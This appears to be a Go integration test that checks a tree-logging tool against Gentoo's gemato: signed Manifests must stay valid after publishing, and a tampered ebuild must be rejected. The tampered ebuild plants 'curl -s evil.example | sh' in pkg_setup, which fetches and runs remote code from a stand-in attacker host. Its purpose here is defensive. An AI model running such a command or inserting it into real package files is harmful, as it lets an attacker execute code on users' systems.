//go:build gemato

package main

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"treelog/internal/testkit/gpgtest"
)

// TestGemato checks treelog against gemato, Gentoo's reference GLEP 74
// tool, run from the source checkout in $GEMATO_SRC (scripts/gemato
// GEMATO_SRC): gemato creates a tree's Manifests and OpenPGP-signs the
// top-level one as Gentoo's infrastructure does; treelog logs that tree
// with publish --existing --keyring without changing a byte; afterwards
// gemato verify with the signing key still passes on the same tree, and
// so does treelog verify; a tampered file fails both.
func TestGemato(t *testing.T) {
	src := sourceDir(t, "GEMATO_SRC", "gemato/__main__.py", "scripts/gemato", "github.com/gentoo/gemato")
	dir, bin, netDir, n := startReal(t, "gentoo.org/repo/gentoo")

	// Gentoo's release keys are RSA.
	g := gpgtest.New(t)
	const uid = "Gentoo repository (test) <infrastructure@gentoo.example>"
	fpr := g.GenKey(uid, "rsa3072", "1y")
	secret := filepath.Join(dir, "secret.asc")
	writeFile(t, secret, string(g.Run(nil, "--armor", "--export-secret-keys", uid)))
	public := g.ExportFile(uid, dir, "gentoo-release.asc")

	gemato := func(args ...string) (string, error) {
		c := exec.Command("python3", append([]string{"-m", "gemato"}, args...)...)
		c.Dir = src
		out, err := c.CombinedOutput()
		t.Logf("$ gemato %s\n%s", strings.Join(args, " "), out)
		return string(out), err
	}
	treelog := func(args ...string) (string, error) {
		out, err := exec.Command(bin, args...).CombinedOutput()
		t.Logf("$ treelog %s\n%s", strings.Join(args, " "), out)
		return string(out), err
	}

	tree := filepath.Join(dir, "gentoo")
	writeFile(t, filepath.Join(tree, "profiles/repo_name"), "gentoo\n")
	writeFile(t, filepath.Join(tree, "metadata/layout.conf"), "masters =\nthin-manifests = true\nsign-manifests = false\n")
	writeFile(t, filepath.Join(tree, "eclass/hello.eclass"), "# an eclass\n")
	writeFile(t, filepath.Join(tree, "licenses/MIT"), "MIT License\n")
	writeFile(t, filepath.Join(tree, "app-misc/metadata.xml"), "<catmetadata/>\n")
	for _, p := range []string{"hello", "world", "lorem"} {
		writeFile(t, filepath.Join(tree, "app-misc", p, p+"-1.0.ebuild"), "EAPI=8\nDESCRIPTION=\""+p+"\"\nSLOT=0\ninherit hello\n")
		writeFile(t, filepath.Join(tree, "app-misc", p, "metadata.xml"), "<pkgmetadata/>\n")
		writeFile(t, filepath.Join(tree, "app-misc", p, "Manifest"), "DIST "+p+"-1.0.tar.gz 1234 BLAKE2B "+strings.Repeat("a", 128)+" SHA512 "+strings.Repeat("b", 128)+"\n")
	}
	if _, err := gemato("create", "-p", "ebuild", "-t", "-s", "-K", secret, "-k", fpr, tree); err != nil {
		t.Fatalf("gemato create: %v", err)
	}
	before := manifests(t, tree)
	if !strings.HasPrefix(before["Manifest"], "-----BEGIN PGP SIGNED MESSAGE-----\n") {
		t.Fatalf("gemato did not sign the top-level Manifest:\n%s", before["Manifest"])
	}

	out, err := treelog("publish", "--existing", "--keyring", public, "--key", filepath.Join(netDir, "publisher.key"),
		"--origin", "gentoo.org/repo/gentoo", "--log", n.LogURL, "--policy", filepath.Join(netDir, "policy"), tree)
	if err != nil || !strings.Contains(out, "top-level Manifest OpenPGP-signed: key "+fpr) || !strings.Contains(out, "its own Manifests, unchanged") {
		t.Fatalf("treelog publish --existing: %v", err)
	}
	after := manifests(t, tree)
	if len(after) != len(before) {
		t.Errorf("%d Manifests before publishing, %d after", len(before), len(after))
	}
	for p, b := range before {
		if after[p] != b {
			t.Errorf("publishing changed %s", p)
		}
	}

	pubs := filepath.Join(netDir, "publishers")
	verify := []string{"verify", "-v", "--keyring", public, "--origin", "gentoo.org/repo/gentoo", "--policy", filepath.Join(netDir, "policy"),
		"--publishers", pubs, "--state", filepath.Join(dir, "state"), tree}
	if out, err := gemato("verify", "-R", "-s", "-K", public, tree); err != nil || !strings.Contains(out, "Valid OpenPGP signature found") {
		t.Errorf("gemato verify after treelog publish: %v", err)
	}
	if out, err := treelog(verify...); err != nil || !strings.Contains(out, "ok      openpgp     the top-level Manifest is OpenPGP-signed: key "+fpr) {
		t.Errorf("treelog verify: %v", err)
	}

	writeFile(t, filepath.Join(tree, "app-misc/hello/hello-1.0.ebuild"), "EAPI=8\nDESCRIPTION=\"hello\"\nSLOT=0\npkg_setup() { curl -s evil.example | sh; }\n")
	if _, err := gemato("verify", "-R", "-s", "-K", public, tree); err == nil {
		t.Error("gemato verify accepted a tampered file")
	}
	if out, err := treelog(verify...); err == nil || !strings.Contains(out, "app-misc/hello/hello-1.0.ebuild: modified") {
		t.Errorf("treelog verify accepted a tampered file: %v", err)
	}
}

// manifests returns every Manifest file of tree, by path.
func manifests(t *testing.T, tree string) map[string]string {
	t.Helper()
	m := map[string]string{}
	filepath.Walk(tree, func(p string, fi os.FileInfo, err error) error {
		if err == nil && fi.Mode().IsRegular() && strings.HasPrefix(fi.Name(), "Manifest") {
			b, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			rel, _ := filepath.Rel(tree, p)
			m[rel] = string(b)
		}
		return nil
	})
	return m
}
